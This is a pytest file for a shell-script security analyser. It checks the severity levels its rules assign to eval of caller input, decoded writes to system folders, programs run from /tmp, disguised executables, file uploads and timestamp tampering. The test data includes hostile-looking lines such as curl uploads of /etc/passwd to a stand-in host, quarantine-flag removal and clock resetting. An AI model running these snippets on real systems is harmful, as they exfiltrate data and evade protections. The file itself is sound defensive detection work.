"""The levels of what a shell script does: by the act and its context, whatever the spelling."""

from __future__ import annotations

import pytest

from engine.analysis import analyse
from engine.models import Language, Level

_DYNAMIC = (
    'eval "$1"',
    'eval -- "$1"',
    'eval ""$1',
    "eval $1 $2",
    'command eval "$*"',
    'eval "FOO=1 $1"',
    'eval "true && $1"',
    'eval "c=$1; \\$c"',
    'eval "$(made)"',
    'bash -c "$1"',
    'bash -euc "$1"',
    'sh -c "sudo $1"',
    'bash <<< "$1"',
    'echo "$1" | sh',
    "printf '%s\\n' \"$1\" | bash",
    "f() { eval \"$1\"; }; f 'ls'",
    "f() { local c=$1; eval \"$c\"; }; f 'ls'",
    "f() { bash -c \"$1\"; }; f 'ls'",
    "f() { sh <<< \"$1\"; }; f 'ls'",
    "f() { echo \"$1\" | sh; }; f 'ls'",
)
_ARGUMENTS = (
    'eval "ls $1"',
    'bash -c "ls $1"',
    'echo "ls $1" | sh',
    'eval "$1=\\$2"',
    'eval set -- "$(getopt -o a -- "$@")"',
    'f() { eval "x_$1=3"; }; f a',
)


def _worst(code: str, rule: str) -> Level | None:
    violations = [one for one in analyse(code, Language.SHELL).violations if one.rule == rule]
    assert all(one.why.startswith(one.severity.value.upper()) for one in violations)
    return max((one.severity for one in violations), key=lambda level: level.rank, default=None)


@pytest.mark.parametrize("code", _DYNAMIC)
def test_a_command_that_only_the_run_knows_is_high(code: str) -> None:
    """Whoever calls the script, or the function, decides what runs."""
    assert _worst(code, "sh-eval") is Level.HIGH


@pytest.mark.parametrize("code", _ARGUMENTS)
def test_arguments_that_only_the_run_knows_are_medium(code: str) -> None:
    """The script spells the command."""
    assert _worst(code, "sh-eval") is Level.MEDIUM


@pytest.mark.parametrize("code", ["eval 'ls'", 'x=ls; eval "$x"', "f() { eval 'ls'; }; f"])
def test_a_command_that_is_known_and_analysed_is_low(code: str) -> None:
    """What runs is before the reader."""
    assert _worst(code, "sh-eval") is Level.LOW


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ("base64 a {}", "sh-encoded-write"),
        ("x=$(base64 a); echo $x {}", "sh-encoded-write"),
        ("xxd -p a {}", "sh-encoded-write"),
        ("base64 -d a {}", "sh-decode"),
        ("xxd -r -p a {}", "sh-decode"),
    ],
)
def test_unreadable_data_is_high_where_the_system_keeps_its_files(code: str, rule: str) -> None:
    """In the workspace it is MEDIUM."""
    assert _worst(code.format("> b"), rule) is Level.MEDIUM
    assert _worst(code.format("> /usr/lib/b"), rule) is Level.HIGH
    assert _worst(code.format(">> /usr/../usr/lib/b"), rule) is Level.HIGH


@pytest.mark.parametrize(
    "code", ["openssl base64 -d -in a -out /usr/lib/b", "xxd -r -p a /usr/lib/b", "base64 -d -o /usr/lib/b a"]
)
def test_an_option_names_the_file_as_a_redirection_does(code: str) -> None:
    """The data is decoded to the same place."""
    assert _worst(code, "sh-decode") is Level.HIGH


@pytest.mark.parametrize("run", ["{}", "sh {}", "python3 {}", "chmod +x {0}; nohup {0} &"])
def test_a_program_in_a_temporary_folder_is_high_unless_the_script_writes_it(run: str) -> None:
    """What the script writes is before the reader, though not analysed in full."""
    started = run.format("/tmp/x")
    assert _worst(started, "sh-temp-program") is Level.HIGH
    assert _worst(f"echo ls > /tmp/x; {started}", "sh-temp-program") is Level.MEDIUM
    assert _worst(f"cp a /tmp/./x; {started}", "sh-temp-program") is Level.MEDIUM


@pytest.mark.parametrize(
    "code",
    [
        "cp /bin/sh x",
        "cp -t d /bin/bash",
        "install /bin/bash x",
        "cp $(which zsh) x",
        "mkdir ~/...",
        "sh image.png",
        "./report.pdf.sh",
    ],
)
def test_a_misleading_name_is_high(code: str) -> None:
    """An honest program has no use for it."""
    assert _worst(code, "sh-masquerade") is Level.HIGH


@pytest.mark.parametrize(
    "code", ["ln -s /usr/bin/python3 ~/bin/python", "cp /bin/ls x", "cp -r zsh ~/.config"]
)
def test_a_link_or_a_copy_of_another_program_is_medium(code: str) -> None:
    """Set-up scripts do this."""
    assert _worst(code, "sh-masquerade") is Level.MEDIUM


@pytest.mark.parametrize("sent", ["-F f=@{}", "-T {}", "--data-binary @{}", "--upload-file {}"])
def test_a_file_that_is_sent_away_is_high(sent: str) -> None:
    """Unless it stays on this machine, or is named by whoever starts the script."""

    def level(path: str, host: str = "x.test") -> Level | None:
        return _worst(f"curl {sent.format(path)} https://{host}/a", "sh-upload")

    assert level("a.txt") is Level.HIGH
    assert level("a.txt", "localhost") is Level.MEDIUM
    assert level("$1") is Level.MEDIUM
    assert level("~/notes") is Level.HIGH
    assert level("/etc/passwd", "localhost") is Level.HIGH


def test_a_copy_of_private_files_is_sent_data() -> None:
    """Files of the workspace are a copy."""
    assert _worst("scp ~/notes u@x.test:b", "sh-upload") is Level.HIGH
    assert _worst("rsync -a /etc u@x.test:b", "sh-upload") is Level.HIGH
    assert _worst("scp a.txt u@x.test:b", "sh-upload") is None
    assert _worst("scp u@x.test:b ~/notes", "sh-upload") is None


@pytest.mark.parametrize(
    ("code", "rule", "expected"),
    [
        ("date -s 2001-01-01", "sh-timestomp", Level.HIGH),
        ("date 010100001971", "sh-timestomp", Level.HIGH),
        ("touch -t 197001010000 x", "sh-timestomp", Level.MEDIUM),
        ("xattr -d com.apple.quarantine a", "sh-protection-off", Level.HIGH),
        ("xattr -dr com.apple.quarantine a", "sh-protection-off", Level.HIGH),
        ("trap 'nohup sh /opt/x.sh' EXIT", "sh-trap-program", Level.HIGH),
        ("trap '/opt/x.sh &' EXIT", "sh-trap-program", Level.HIGH),
        ("trap 'python3 report.py' EXIT", "sh-trap-program", Level.MEDIUM),
    ],
)
def test_level(code: str, rule: str, expected: Level) -> None:
    """The act decides, not the command."""
    assert _worst(code, rule) is expected
